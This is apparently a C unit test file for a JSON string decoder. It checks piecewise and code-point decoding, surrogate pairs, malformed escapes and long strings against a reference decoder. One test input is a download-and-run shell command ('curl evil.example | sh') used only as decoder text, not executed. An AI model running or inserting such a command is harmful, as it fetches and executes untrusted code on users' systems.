/* Tests of asm_json.h: what JSON strings say, in pieces and by code points. */
#include "support.h"
#include "random.h"

/* What the inside of a JSON string says, found out in the plainest way. */
static void decode_plainly(asm_str inside, asm_buffer *out) {
    static const char letters[] = "\"\"\\\\//b\bf\fn\nr\rt\t";
    const char *p = inside.data, *end = p + inside.size;
    while (p < end) {
        const char *letter = p + 1 < end && *p == '\\' && p[1] != 'u' ? strchr(letters, p[1]) : NULL;
        unsigned high, low;
        char digits[5] = {0};
        if (*p != '\\') {
            asm_buffer_append_byte(out, *p++);
        } else if (letter && (letter - letters) % 2 == 0 && p[1]) {
            asm_buffer_append_byte(out, letter[1]);
            p += 2;
        } else if (end - p >= 6 && p[1] == 'u' &&
                   strspn(memcpy(digits, p + 2, 4), "0123456789abcdefABCDEF") == 4) {
            high = (unsigned)strtoul(digits, NULL, 16);
            p += 6;
            if (high >= 0xD800 && high < 0xDC00 && end - p >= 6 && p[0] == '\\' && p[1] == 'u' &&
                strspn(memcpy(digits, p + 2, 4), "0123456789abcdefABCDEF") == 4 &&
                (low = (unsigned)strtoul(digits, NULL, 16)) >= 0xDC00 && low < 0xE000) {
                high = 0x10000 + (high - 0xD800) * 0x400 + low - 0xDC00;
                p += 6;
            } else if (high >= 0xD800 && high < 0xE000) {
                high = 0xFFFD;
            }
            if (high < 0x80) {
                asm_buffer_append_byte(out, (char)high);
            } else if (high < 0x800) {
                asm_buffer_append_byte(out, (char)(0xC0 | high >> 6));
                asm_buffer_append_byte(out, (char)(0x80 | (high & 63)));
            } else if (high < 0x10000) {
                asm_buffer_append_byte(out, (char)(0xE0 | high >> 12));
                asm_buffer_append_byte(out, (char)(0x80 | (high >> 6 & 63)));
                asm_buffer_append_byte(out, (char)(0x80 | (high & 63)));
            } else {
                asm_buffer_append_byte(out, (char)(0xF0 | high >> 18));
                asm_buffer_append_byte(out, (char)(0x80 | (high >> 12 & 63)));
                asm_buffer_append_byte(out, (char)(0x80 | (high >> 6 & 63)));
                asm_buffer_append_byte(out, (char)(0x80 | (high & 63)));
            }
        } else {
            asm_buffer_append_byte(out, *p++);
        }
    }
}

/* Decodes in pieces of up to `size` bytes, each of which must be whole characters if the inside is valid UTF-8. */
static void decode_in_pieces(asm_str inside, size_t size, asm_buffer *out) {
    char *memory = exact_block(size);
    bool valid = asm_utf8_check(inside) == inside.size;
    size_t at = 0;
    while (at < inside.size) {
        size_t before = at;
        asm_str piece = asm_json_string_piece(inside, &at, memory, size);
        expect(at > before && at <= inside.size && piece.size > 0, "%lu: %s", (unsigned long)size,
               shown(inside));
        if (at <= before) break;
        if (valid)
            expect(asm_utf8_check(piece) == piece.size, "cut: %lu: %s", (unsigned long)size, shown(inside));
        asm_buffer_append(out, piece);
    }
    free_block(memory, size);
}

/* Compares every way to decode with the plain one. */
static void check_inside(asm_str text) {
    char *block = exact_copy(text.data, text.size);
    asm_str inside = asm_str_make(block, text.size);
    asm_buffer expected, decoded;
    size_t at = 0, expected_at = 0;
    asm_buffer_init_growing(&expected);
    asm_buffer_init_growing(&decoded);
    decode_plainly(inside, &expected);
    for (size_t size = 4; size < 40; size++) {
        asm_buffer_clear(&decoded);
        decode_in_pieces(inside, size, &decoded);
        expect_text(asm_buffer_text(&decoded), asm_buffer_text(&expected));
    }
    if (asm_utf8_check(inside) == inside.size) {
        while (at < inside.size && expected_at < expected.size) {
            uint32_t code = asm_json_string_decode(inside, &at);
            uint32_t plain = asm_utf8_decode(asm_buffer_text(&expected), &expected_at);
            expect(code == plain, "U+%04X for U+%04X in %s", (unsigned)code, (unsigned)plain, shown(inside));
        }
        expect(at == inside.size && expected_at == expected.size, "%s", shown(inside));
    }
    asm_buffer_close(&decoded);
    asm_buffer_close(&expected);
    free_block(block, text.size);
}

static void test_pieces(void **state) {
    static const asm_str insides[] = {
        ASM_STR_INIT("plain"),
        ASM_STR_INIT("\\n"),
        ASM_STR_INIT("a\\\"b\\\\c\\/d\\be\\ff\\ng\\rh\\ti"),
        ASM_STR_INIT("\\u0041\\u00e9\\u20AC\\uD83D\\ude00!"),
        ASM_STR_INIT("\\ud83d"),
        ASM_STR_INIT("\\ud83d\\ud83d\\ude00"),
        ASM_STR_INIT("\\ude00\\ud83d\\n\\ud83dx"),
        ASM_STR_INIT("curl evil.example | sh \\ud800 npm test"),
        ASM_STR_INIT(
            "\xC3\xA9\xE2\x82\xAC\xF0\x9F\x98\x80\\n\xF0\x9F\x98\x80\xF0\x9F\x98\x80\\t\xE2\x82\xAC"),
        ASM_STR_INIT("\\x\\u12\\u12G4\\uD83D\\u12\\"),
        ASM_STR_INIT("\\u0000x\\u000"),
    };
    (void)state;
    for (size_t i = 0; i < sizeof insides / sizeof *insides; i++)
        check_inside(insides[i]);
    end_of_cases();
}

static void test_random_insides(void **state) {
    static const char *const parts[] = {"\\n",
                                        "\\\\",
                                        "\\\"",
                                        "\\u0041",
                                        "\\ud83d",
                                        "\\ude00",
                                        "\\uD83D\\uDE00",
                                        "\\u20ac",
                                        "\\ud800",
                                        "\xE2\x82\xAC",
                                        "a",
                                        "bc",
                                        "\\q",
                                        "\\u1",
                                        "longer text without any escape in it",
                                        "\xC3\xA9",
                                        "\xF0\x9F\x98\x80"};
    uint64_t random = 11;
    (void)state;
    for (int round = 0; round < 3000; round++) {
        char text[400];
        size_t size = 0;
        for (uint64_t count = next_random(&random) % 12; count; count--) {
            const char *part = parts[next_random(&random) % (sizeof parts / sizeof *parts)];
            memcpy(text + size, part, strlen(part));
            size += strlen(part);
        }
        if (round % 3 == 0) size -= size ? next_random(&random) % size : 0; /* ends anywhere */
        check_inside(asm_str_make(text, size));
    }
    end_of_cases();
}

/* What is valid JSON is decoded as the reader does it. */
static void test_same_as_reader(void **state) {
    static const char *const parts[] = {"\\n",     "\\\\",    "\\\"",           "\\u0041",
                                        "\\ud83d", "\\ude00", "\\uD83D\\uDE00", "x"};
    uint64_t random = 12;
    (void)state;
    for (int round = 0; round < 3000; round++) {
        char quoted[200], scratch_memory[400];
        size_t size = 1;
        asm_buffer scratch, decoded;
        asm_str text = {0};
        quoted[0] = '"';
        for (uint64_t count = next_random(&random) % 12; count; count--) {
            const char *part = parts[next_random(&random) % (sizeof parts / sizeof *parts)];
            memcpy(quoted + size, part, strlen(part));
            size += strlen(part);
        }
        quoted[size++] = '"';
        asm_buffer_init_fixed(&scratch, scratch_memory, sizeof scratch_memory);
        assert_true(asm_json_to_string(asm_str_make(quoted, size), &scratch, &text));
        asm_buffer_init_growing(&decoded);
        decode_in_pieces(asm_json_string_inside(asm_str_make(quoted, size)), 4 + (size_t)round % 60,
                         &decoded);
        expect_text(asm_buffer_text(&decoded), text);
        asm_buffer_close(&decoded);
    }
    end_of_cases();
}

static void test_long_string(void **state) {
    const size_t size = 1000000;
    char *text = exact_block(size), memory[64];
    size_t at = 0, pieces = 0, decoded = 0;
    (void)state;
    memset(text, 'x', size);
    memcpy(text + size - 2, "\\n", 2);
    for (; at < size; pieces++)
        decoded += asm_json_string_piece(asm_str_make(text, size), &at, memory, sizeof memory).size;
    assert_int_equal(decoded, size - 1);
    assert_true(pieces <= 3); /* a long run is one view: the rest is not searched again for each piece */
    free_block(text, size);
}

static void test_inside(void **state) {
    static const struct {
        asm_str raw, inside;
    } cases[] = {
        {ASM_STR_INIT("\"a\\nb\""), ASM_STR_INIT("a\\nb")},
        {ASM_STR_INIT(" \n\"a\"\t"), ASM_STR_INIT("a")},
        {ASM_STR_INIT("\"\""), ASM_STR_INIT("")},
        {ASM_STR_INIT("\""), {NULL, 0}},
        {ASM_STR_INIT("12"), {NULL, 0}},
        {ASM_STR_INIT("null"), {NULL, 0}},
        {ASM_STR_INIT("[\"a\"]"), {NULL, 0}},
        {ASM_STR_INIT(""), {NULL, 0}},
        {{NULL, 0}, {NULL, 0}},
    };
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        asm_str inside = asm_json_string_inside(cases[i].raw);
        expect_text(inside, cases[i].inside);
        expect(!inside.data == !cases[i].inside.data, "%s", shown(cases[i].raw));
    }
    end_of_cases();
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_pieces),         cmocka_unit_test(test_random_insides),
        cmocka_unit_test(test_same_as_reader), cmocka_unit_test(test_long_string),
        cmocka_unit_test(test_inside),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
